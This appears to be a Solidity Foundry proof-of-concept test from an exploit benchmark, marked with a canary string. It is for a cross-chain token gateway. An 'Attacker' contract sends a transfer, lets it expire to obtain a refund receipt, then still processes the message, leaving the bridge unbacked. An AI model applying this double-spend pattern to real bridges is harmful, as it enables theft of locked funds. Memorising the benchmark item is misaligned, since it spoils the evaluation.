// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-9c41e7d3-2b6f-4a58-8e10-d37f5a0c64b9
import "../Base.sol";

contract Attacker is Agent {
    constructor(Deployment.Station memory home_, Deployment.Station memory away_, address[] memory a, address[] memory b)
        payable
        Agent(home_, away_, a, b)
    {}

    Messages.Message private message;
    Messages.Message private receipt;

    function begin(Usd usd) external {
        usd.approve(address(home.gateway), 8_000e6);
        ITokenGateway.Order memory order =
            ITokenGateway.Order(address(usd), 8_000e6, 22, address(this), 400_000, 2 hours, "");
        message = home.lens.nextMessage(address(this), order);
        home.gateway.send{value: home.gateway.feeFor(address(this), order)}(order);
        _carry(false);
    }

    function expire() external {
        uint64 count = home.outbox.messageCount();
        receipt = _receipt(address(home.gateway), abi.encode(Messages.identifierOf(message)));
        away.inbox.expire(message, home.lens.siblingsOf(message.nonce, count), message.nonce);
        _carry(true);
    }

    function end() external {
        _hand(true, receipt);
        uint64 count = home.outbox.messageCount();
        try away.inbox.process(message, home.lens.siblingsOf(message.nonce, count), message.nonce) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker{value: 1 ether}(home, away, watchers, returning);
        usd.mint(address(other), 8_000e6);
    }

    function exploit() public {
        other.begin(usd);
        vm.warp(block.timestamp + 3 hours);
        other.expire();
        vm.warp(block.timestamp + 31 minutes);
        other.end();
    }

    function test_Exploit() public {
        exploit();
        require(!backed(), "everything is locked");
    }

    function target() public view override returns (address) {
        return address(away.inbox);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
